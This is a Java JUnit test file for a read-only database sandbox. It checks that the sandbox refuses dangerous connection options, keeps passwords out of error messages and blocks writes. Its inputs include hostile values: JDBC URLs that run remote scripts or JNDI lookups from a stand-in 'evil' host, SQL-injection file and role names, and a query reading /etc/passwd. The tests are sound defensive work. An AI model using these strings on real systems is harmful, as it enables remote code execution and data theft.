package dev.hradba.sandbox.sql;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.util.List;
import java.util.Optional;

import dev.hradba.core.Identity;
import dev.hradba.core.completion.Cancellation;
import dev.hradba.sandbox.sql.DatabaseException.Kind;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class DatabaseTest {

    private static DatabaseException opening(String address) {
        return assertThrows(DatabaseException.class, () -> {
            try (var database = Database.open(DatabaseSource.of(address))) {
                database.schema(Grants.everything());
            }
        }, address);
    }

    @Test
    void a_missing_file_is_named_and_never_created(@TempDir Path directory) throws Exception {
        for (String name : new String[] {"missing.db", "with 'quote'.db", "x; DROP TABLE t; --.db", "no/such/folder/x.db"}) {
            var e = opening(directory.resolve(name).toString());
            assertEquals(Kind.NOT_FOUND, e.kind());
            assertTrue(e.toString().contains(name) && e.toString().contains("nothing was created"), e.getMessage());
        }
        assertEquals(Kind.NOT_FOUND, opening("jdbc:h2:" + directory.resolve("missing")).kind());
        try (var files = Files.list(directory)) {
            assertEquals(0, files.count());
        }
    }

    @Test
    void a_file_that_is_no_database_is_told_apart(@TempDir Path directory) throws Exception {
        Path text = Files.writeString(directory.resolve("notes.txt"), "these are notes, not a database");
        assertEquals(Kind.NOT_A_DATABASE, opening(text.toString()).kind());
        assertEquals(Kind.NOT_A_DATABASE, opening(directory.toString()).kind());
        Path empty = Files.createFile(directory.resolve("empty.db"));
        assertEquals(Kind.EMPTY, opening(empty.toString()).kind());
        Path cut = directory.resolve("cut.db");
        byte[] whole = Files.readAllBytes(SampleDatabase.sqlite(directory));
        Files.write(cut, java.util.Arrays.copyOf(whole, 5_000));
        assertEquals(Kind.NOT_A_DATABASE, opening(cut.toString()).kind());
        byte[] noise = whole.clone();
        java.util.Arrays.fill(noise, 100, noise.length, (byte) 0x5A);
        Files.write(cut, noise);
        assertEquals(Kind.NOT_A_DATABASE, opening(cut.toString()).kind());
    }

    @Test
    void a_database_without_tables_is_empty(@TempDir Path directory) throws Exception {
        Path file = directory.resolve("bare.db");
        try (var connection = DriverManager.getConnection("jdbc:sqlite:" + file); var statement = connection.createStatement()) {
            statement.execute("CREATE TABLE t (a)");
            statement.execute("DROP TABLE t");
        }
        var e = opening(file.toString());
        assertEquals(Kind.EMPTY, e.kind());
        assertTrue(e.toString().contains("no tables"), e.getMessage());
        Path sample = SampleDatabase.sqlite(directory);
        try (var database = Database.open(DatabaseSource.of(sample.toString()))) {
            var none = assertThrows(DatabaseException.class, () -> database.schema(Grants.of(List.of(Grants.TableGrant.all("nothing")))));
            assertTrue(none.toString().contains("none of the granted tables"), none.getMessage());
        }
    }

    @Test
    void options_that_run_scripts_load_classes_or_write_files_are_refused() {
        for (String address : new String[] {
            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4", "jdbc:h2:mem:x;MODE=MySQL", "jdbc:h2:mem:x;CIPHER=AES",
            "jdbc:h2:mem:x;init=create alias", "jdbc:h2:mem:x; INIT =x", "jdbc:h2:mem:x;AUTO_SERVER=TRUE", "jdbc:h2:zip:/tmp/a.zip!/x", "jdbc:h2:nio:/tmp/x", "jdbc:h2:mem:",
            "jdbc:h2:split:20:/tmp/x", "jdbc:h2:mem:x;LOCK_TIMEOUT=1\\;INIT=x", "jdbc:h2:mem:x;LOCK_TIMEOUT=1%3BINIT=x", "jdbc:h2:tcp://host/x;INIT=x",
            "jdbc:postgresql://h/d?socketFactory=x", "jdbc:postgresql://h/d?socketFactoryArg=x", "jdbc:postgresql://h/d?sslfactory=x", "jdbc:postgresql://h/d?loggerFile=/tmp/x",
            "jdbc:postgresql://h/d?loggerLevel=TRACE", "jdbc:postgresql://h/d?options=-c%20x", "jdbc:postgresql://h/d?readOnly=false", "jdbc:postgresql://h/d?autosave=always",
            "jdbc:postgresql://h/d?authenticationPluginClassName=x", "jdbc:postgresql://h/d?jaasLogin=true", "jdbc:postgresql://h/d?sslpasswordcallback=x",
            "jdbc:postgresql://h/d?sslhostnameverifier=x", "jdbc:postgresql://h/d?preferQueryMode=simple", "jdbc:postgresql://h/d?currentSchema=x", "jdbc:postgresql:d?x=y",
            "jdbc:postgresql://h/d;INIT=x", "jdbc:postgresql://user:pw@h/d", "jdbc:postgresql://h/d?user=a&socketFactory=b", "jdbc:postgresql://h/d?%73ocketFactory=b",
            "jdbc:sqlite::memory:", "jdbc:sqlite:file:x.db?mode=rwc", "jdbc:sqlite:x.db?enable_load_extension=true", "jdbc:sqlite::resource:http://evil/x.db", "jdbc:sqlite:",
            "jdbc:mysql://h/d?allowLocalInfile=true", "jdbc:mariadb://h/d?allowMultiQueries=true", "jdbc:mysql://h/d?sessionVariables=x",
            "jdbc:duckdb:", "jdbc:duckdb::memory:", "jdbc:duckdb:http://evil/x.db", "jdbc:duckdb:md:x", "jdbc:duckdb:x.db;session_init_sql_file=/x", "jdbc:oracle:thin:@x", "jdbc:jndi:ldap://evil/x", "jdbc:derby:x;create=true", "postgresql://h/d", "http://evil/x.db", "ldap://evil"}) {
            var e = assertThrows(DatabaseException.class, () -> Database.open(DatabaseSource.of(address)).close(), address);
            assertEquals(Kind.NOT_ALLOWED, e.kind(), address + ": " + e.getMessage());
        }
    }

    @Test
    void a_password_is_in_no_message(@TempDir Path directory) {
        var source = DatabaseSource.of("jdbc:postgresql://127.0.0.1:1/x?user=me&password=hunter2", Optional.of("me"), Optional.of("hunter2"));
        assertFalse(source.toString().contains("hunter2"));
        var e = assertThrows(DatabaseException.class, () -> Database.open(source).close());
        assertEquals(Kind.UNREACHABLE, e.kind());
        for (Throwable t = e; t != null; t = t.getCause()) {
            assertFalse(String.valueOf(t.getMessage()).contains("hunter2"));
        }
    }

    @Test
    void a_view_and_a_database_in_wal_mode_can_be_read(@TempDir Path directory) throws Exception {
        Path file = SampleDatabase.sqlite(directory);
        try (var connection = DriverManager.getConnection("jdbc:sqlite:" + file); var statement = connection.createStatement()) {
            statement.execute("PRAGMA journal_mode = WAL");
            statement.execute("CREATE VIEW open_tickets AS SELECT id, title FROM tickets WHERE status = 'open'");
        }
        try (var database = Database.open(DatabaseSource.of("jdbc:sqlite:" + file))) {
            var schema = database.schema(Grants.everything());
            assertEquals(666, schema.table("open_tickets").orElseThrow().rows());
            var executor = new SqlExecutor(database, Grants.everything(), SqlLimits.DEFAULT);
            assertInstanceOf(SqlOutcome.Rows.class, executor.run("SELECT * FROM open_tickets", schema, Identity.of("a"), new Cancellation()));
        }
    }

    @Test
    void even_without_the_gate_an_open_sqlite_file_cannot_be_changed(@TempDir Path directory) throws Exception {
        Path file = SampleDatabase.sqlite(directory);
        String before = SqlExecutorTest.hash(file);
        try (var database = Database.open(DatabaseSource.of(file.toString()))) {
            for (String sql : new String[] {"DELETE FROM tickets", "CREATE TABLE x (a)", "DROP TABLE tickets", "ATTACH DATABASE '" + directory.resolve("new.db") + "' AS n",
                "VACUUM INTO '" + directory.resolve("copy.db") + "'", "SELECT load_extension('x')", "PRAGMA user_version = 5"}) {
                assertThrows(RuntimeException.class, () -> database.read(handle -> handle.execute(sql)), sql);
            }
        }
        assertEquals(before, SqlExecutorTest.hash(file));
        try (var files = Files.list(directory)) {
            assertEquals(1, files.count());
        }
    }

    @Test
    void an_h2_file_is_opened_read_only(@TempDir Path directory) throws Exception {
        try (var connection = DriverManager.getConnection("jdbc:h2:" + directory.resolve("sample"), "sa", "pw")) {
            SampleDatabase.fill(connection);
        }
        Path file = directory.resolve("sample.mv.db");
        String before = SqlExecutorTest.hash(file);
        try (var database = Database.open(DatabaseSource.of("jdbc:h2:" + directory.resolve("sample"), Optional.of("sa"), Optional.of("pw")))) {
            assertEquals(2_000, database.schema(Grants.everything()).table("tickets").orElseThrow().rows());
            assertThrows(RuntimeException.class, () -> database.read(handle -> handle.execute("DELETE FROM tickets")));
            assertEquals(List.of("is an administrator"), database.writePowers().subList(0, 1));
            assertEquals(Kind.WRITABLE, assertThrows(DatabaseException.class, database::requireReadOnlyAccount).kind());
        }
        assertEquals(before, SqlExecutorTest.hash(file));
        var wrong = assertThrows(DatabaseException.class,
                () -> Database.open(DatabaseSource.of("jdbc:h2:" + directory.resolve("sample"), Optional.of("sa"), Optional.of("no"))).close());
        assertEquals(Kind.UNAUTHORIZED, wrong.kind(), wrong.getMessage());
    }

    @Test
    void a_closed_database_says_so(@TempDir Path directory) throws Exception {
        var database = Database.open(DatabaseSource.of(SampleDatabase.sqlite(directory).toString()));
        database.close();
        database.close();
        assertTrue(assertThrows(RuntimeException.class, () -> database.schema(Grants.everything())).toString().contains("closed"));
    }

    @Test
    void postgresql_faults_are_told_apart() throws Exception {
        Assumptions.assumeTrue(PostgresAtHand.url().isPresent());
        PostgresAtHand.prepare();
        String base = PostgresAtHand.reader().describe();
        var wrong = assertThrows(DatabaseException.class, () -> Database.open(DatabaseSource.of(base, Optional.of("hradba_test_reader"), Optional.of("no"))).close());
        assertEquals(Kind.UNAUTHORIZED, wrong.kind(), wrong.getMessage());
        var none = assertThrows(DatabaseException.class, () -> Database.open(DatabaseSource.of(base, Optional.of("hradba_test_reader"), Optional.empty())).close());
        assertEquals(Kind.UNAUTHORIZED, none.kind(), none.getMessage());
        String other = base.substring(0, base.lastIndexOf('/')) + "/no_such_database";
        var missing = assertThrows(DatabaseException.class,
                () -> Database.open(DatabaseSource.of(other, Optional.of("hradba_test_reader"), Optional.of("reader-password"))).close());
        assertEquals(Kind.NOT_FOUND, missing.kind(), missing.getMessage());
    }

    @Test
    void a_role_from_the_script_can_read_what_is_granted_and_nothing_else() throws Exception {
        Assumptions.assumeTrue(PostgresAtHand.url().isPresent());
        PostgresAtHand.prepare();
        try (var admin = Database.open(DatabaseSource.of(PostgresAtHand.url().orElseThrow()))) {
            assertTrue(admin.writePowers().getFirst().contains("superuser"));
            var e = assertThrows(DatabaseException.class, admin::requireReadOnlyAccount);
            assertEquals(Kind.WRITABLE, e.kind());
            String script = RoleScript.postgresql("hradba_test_role", admin.schema(Corpus.GRANTS), Corpus.GRANTS, SqlLimits.DEFAULT);
            try (var connection = PostgresAtHand.admin(); var statement = connection.createStatement()) {
                try (var there = statement.executeQuery("SELECT 1 FROM pg_roles WHERE rolname = 'hradba_test_role'")) {
                    if (there.next()) {
                        statement.execute("DROP OWNED BY hradba_test_role; DROP ROLE hradba_test_role");
                    }
                }
                statement.execute(script);
                statement.execute("ALTER ROLE hradba_test_role PASSWORD 'pw'");
            }
        }
        var source = DatabaseSource.of(PostgresAtHand.reader().describe(), Optional.of("hradba_test_role"), Optional.of("pw"));
        try (var database = Database.open(source)) {
            assertEquals(List.of(), database.writePowers());
            database.requireReadOnlyAccount();
            var schema = database.schema(Grants.everything());
            assertTrue(schema.table("secrets").isEmpty());
            assertTrue(schema.table("people").orElseThrow().column("email").isEmpty());
            var executor = new SqlExecutor(database, Corpus.GRANTS, SqlLimits.DEFAULT);
            assertInstanceOf(SqlOutcome.Rows.class, executor.run("SELECT * FROM people", schema, Identity.of("a"), new Cancellation()));
            for (String sql : new String[] {"DELETE FROM tickets", "SELECT email FROM people", "SELECT * FROM secrets", "CREATE TABLE x (a int)", "CREATE TEMP TABLE x (a int)",
                "SELECT pg_read_file('/etc/passwd')", "SET TRANSACTION READ WRITE; DELETE FROM tickets"}) {
                assertThrows(RuntimeException.class, () -> database.read(handle -> handle.execute(sql)), sql);
            }
        }
    }

    @Test
    void role_scripts_quote_what_they_name() {
        var schema = new SchemaView(SchemaView.Dialect.POSTGRESQL, List.of(new SchemaView.Table("Odd \"name\"", "", List.of(new SchemaView.Column(
                "a b", SchemaView.Type.TEXT, "text", true, "", Optional.empty(), List.of(), false)), List.of(), 1)));
        assertTrue(RoleScript.postgresql("reader", schema, Grants.everything(), SqlLimits.DEFAULT).contains("ON \"public\".\"Odd \"\"name\"\"\" TO reader;"));
        assertThrows(IllegalArgumentException.class, () -> RoleScript.postgresql("x; DROP ROLE admin", schema, Grants.everything(), SqlLimits.DEFAULT));
    }
}
